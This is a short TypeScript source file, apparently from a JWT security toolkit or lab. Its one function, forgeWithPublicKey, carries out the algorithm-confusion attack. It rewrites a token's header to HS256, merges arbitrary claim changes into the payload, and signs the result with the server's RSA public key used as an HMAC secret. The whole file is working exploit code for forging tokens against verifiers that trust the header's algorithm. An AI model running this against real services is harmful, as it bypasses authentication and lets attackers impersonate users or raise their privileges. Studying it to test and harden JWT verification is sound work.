import { encode } from '../jwt/base64url.ts'
import { hmacSha256 } from '../jwt/hmac.ts'
import { decodeJson, encodeJson } from '../jwt/json.ts'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)

export function forgeWithPublicKey(
  token: string,
  publicKeyPem: string,
  changes: Record<string, unknown>,
): string {
  const [first = '', second = '', third = ''] = token.split('.')
  const header = { alg: 'HS256', typ: 'JWT' }
  const claims = decodeJson(second)
  const payload = { ...claims, ...changes }
  const input = encodeJson(header) + '.' + encodeJson(payload)
  const secret = utf8(publicKeyPem)
  return input + '.' + encode(hmacSha256(secret, utf8(input)))
}
